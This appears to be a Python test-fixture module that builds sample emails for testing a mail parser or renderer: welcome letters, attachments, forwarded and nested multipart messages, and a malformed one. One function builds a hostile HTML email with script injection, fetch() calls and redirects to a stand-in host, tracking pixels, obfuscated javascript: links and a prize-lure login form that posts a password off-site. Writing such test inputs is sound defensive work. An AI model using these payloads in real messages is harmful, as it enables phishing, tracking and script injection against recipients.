"""Letters as programs write them, and as nobody should."""

import base64
import zlib
from email.message import EmailMessage
from email.policy import SMTP

HR = "Hanna de Vries <hr@example.nl>"
MO = "mo@example.nl"


def _png() -> bytes:
    """A purple square of 48 by 48."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        sum_ = zlib.crc32(kind + content).to_bytes(4, "big")
        return len(content).to_bytes(4, "big") + kind + content + sum_

    side = (48).to_bytes(4, "big")
    rows = (b"\0" + bytes((0x4A, 0x1A, 0x4D)) * 48) * 48
    head = chunk(b"IHDR", side * 2 + bytes((8, 2, 0, 0, 0)))
    body = chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + body


LOGO = _png()
WELCOME_TEXT = """Beste Mo,

Je login staat klaar. Kies binnen 48 uur je wachtwoord:

    https://login.example.nl/kies?code=a1B2-c3D4

Vragen? Bel Hanna (https://example.nl/hr), ook \u2019s avonds.

Groet,
Caf\u00e9 De Brug
"""
WELCOME_HTML = """<!DOCTYPE html>
<html lang="nl"><head><meta charset="utf-8"><style>
body { font: 16px/1.5 sans-serif; margin: 24px; }
.button { background: #4a154b; color: #fff; padding: 10px 16px; border-radius: 4px; }
</style></head><body>
<img src="cid:logo" alt="Caf\u00e9 De Brug" width="48" height="48">
<h1>Beste Mo,</h1>
<p>Je login staat klaar. Kies binnen 48 uur je wachtwoord:</p>
<p><a class="button" href="https://login.example.nl/kies?code=a1B2&amp;lang=nl">Kies je
wachtwoord</a></p>
<p>Vragen? <a href="mailto:hr@example.nl">Mail Hanna</a>.</p>
</body></html>
"""


def new(subject: str = "Hallo", to: str = MO, **headers: str) -> EmailMessage:
    message = EmailMessage(policy=SMTP)
    message["From"] = HR
    message["To"] = to
    message["Subject"] = subject
    message["Message-ID"] = "<1@example.nl>"
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    return message


def text(body: str = "Hallo Mo", subject: str = "Hallo", to: str = MO) -> bytes:
    message = new(subject, to)
    message.set_content(body)
    return message.as_bytes()


def html(body: str, subject: str = "Hallo", to: str = MO) -> bytes:
    """HTML and nothing else."""
    message = new(subject, to)
    message.set_content(body, subtype="html")
    return message.as_bytes()


def welcome(to: str = MO) -> bytes:
    """Text, and HTML with a picture of its own."""
    message = new("Je login staat klaar \u2013 kies je wachtwoord", to)
    message.set_content(WELCOME_TEXT)
    message.add_alternative(WELCOME_HTML, subtype="html")
    picture = message.get_payload()[1]
    picture.add_related(LOGO, "image", "png", cid="<logo>", filename="logo.png")
    return message.as_bytes()


def with_pdf(size: int = 5_000_000, to: str = MO) -> bytes:
    message = new("Je contract", to)
    message.set_content("Bijgaand je contract.")
    content = (b"%PDF-1.7\n" + bytes(range(256)) * (size // 256 + 1))[:size]
    message.add_attachment(
        content, "application", "pdf", filename="contract \u2013 caf\u00e9.pdf"
    )
    return message.as_bytes()


def only_an_attachment() -> bytes:
    message = new("De lijst")
    message.add_attachment(b"a;b\r\n", "text", "csv", filename="lijst.csv")
    return message.as_bytes()


def forwarded() -> bytes:
    """A letter with a letter in it, which has an attachment of its own."""
    inner = new("Het rooster", "hr@example.nl")
    inner.set_content("Zie bijlage.")
    inner.add_attachment(b"ma di wo", "text", "plain", filename="rooster.txt")
    message = new("Fwd: Het rooster")
    message.set_content("Ter info.")
    message.add_attachment(inner)
    return message.as_bytes()


def nested() -> bytes:
    """Mixed in mixed, as mailing lists and virus scanners leave behind."""
    lines = [
        "From: hr@example.nl",
        "To: mo@example.nl",
        "Subject: Genest",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="a"',
        "",
        "Not to be seen.",
        "--a",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        'Content-Type: multipart/alternative; boundary="c"',
        "",
        "--c",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        base64.b64encode("Diep, één".encode()).decode(),
        "--c",
        "Content-Type: text/html; charset=utf-8",
        "",
        "<p>Diep</p>",
        "--c--",
        "--b--",
        "--a",
        "Content-Type: text/plain",
        "",
        "Voettekst van de lijst.",
        "--a--",
        "",
    ]
    return "\r\n".join(lines).encode()


def raw(*lines: str | bytes) -> bytes:
    """A letter line by line, right or wrong."""
    return b"\r\n".join(
        each if isinstance(each, bytes) else each.encode() for each in lines
    )


def broken() -> bytes:
    """A multipart that never begins."""
    return raw(
        "From: hr@example.nl",
        "To: mo@example.nl",
        "Subject: Kapot",
        'Content-Type: multipart/mixed; boundary="nooit"',
        "",
        "--anders",
        "Content-Type: text/plain",
        "",
        "Wie leest dit?",
    )


def hostile(elsewhere: str) -> bytes:
    """HTML that tries to run, to fetch from `elsewhere` and to leave, in every way."""
    return html(
        f"""<!DOCTYPE html><html><head>
<base href="{elsewhere}/base/" target="_top">
<meta http-equiv="refresh" content="0; url={elsewhere}/refresh">
<link rel="stylesheet" href="{elsewhere}/style.css">
<link rel="preconnect" href="{elsewhere}"><link rel="dns-prefetch" href="{elsewhere}">
<link rel="prefetch" href="{elsewhere}/prefetch"><link rel="icon" href="{elsewhere}/i">
<style>@import "{elsewhere}/import.css";
@font-face {{ font-family: x; src: url({elsewhere}/font); }}
body {{ font-family: x; background: url("{elsewhere}/background"); }}</style>
<script src="{elsewhere}/script.js"></script>
<script>document.title = "ran"; top.location = "{elsewhere}/top";</script>
</head><body background="{elsewhere}/body" onload="top.location='{elsewhere}/onload'">
<p id="seen">U heeft gewonnen</p>
<img src="{elsewhere}/pixel.gif" srcset="{elsewhere}/pixel2.gif 2x" alt="pixel">
<img src="x" onerror="fetch('{elsewhere}/onerror')" alt="">
<svg><image href="{elsewhere}/svg"/><use href="{elsewhere}/use#a"/>
<script>fetch("{elsewhere}/svg-script")</script></svg>
<video src="{elsewhere}/video" poster="{elsewhere}/poster" autoplay></video>
<audio src="{elsewhere}/audio" autoplay></audio>
<iframe src="{elsewhere}/frame"></iframe>
<object data="{elsewhere}/object"></object><embed src="{elsewhere}/embed">
<form action="{elsewhere}/form" method="post" target="_blank">
<input name="password" autofocus><button id="send">Log in</button></form>
<p style="background-image: url({elsewhere}/inline)">stijl</p>
<a id="script" href="java&#10;script:alert(1)">script</a>
<a id="data" href="data:text/html,<script>alert(1)</script>">data</a>
<a id="relative" href="/clear">hier</a>
<a id="link" href="https://example.nl/" target="_top" rel="opener"
 ping="{elsewhere}/ping" onclick="alert(1)">prijs</a>
</body></html>""",
        subject="U heeft gewonnen",
    )


def scene() -> list[tuple[list[str], bytes]]:
    """A day of letters, as (recipients, letter), oldest first."""
    return [
        ([MO], broken()),
        ([MO], forwarded()),
        (["fatima@example.nl", "jan@example.nl", MO], nested()),
        (["fatima@example.nl"], with_pdf(to="Fatima <fatima@example.nl>")),
        ([MO], hostile("http://elsewhere.example")),
        (["jan@example.nl"], text(WELCOME_TEXT, "Je login", "jan@example.nl")),
        ([MO], welcome()),
    ]
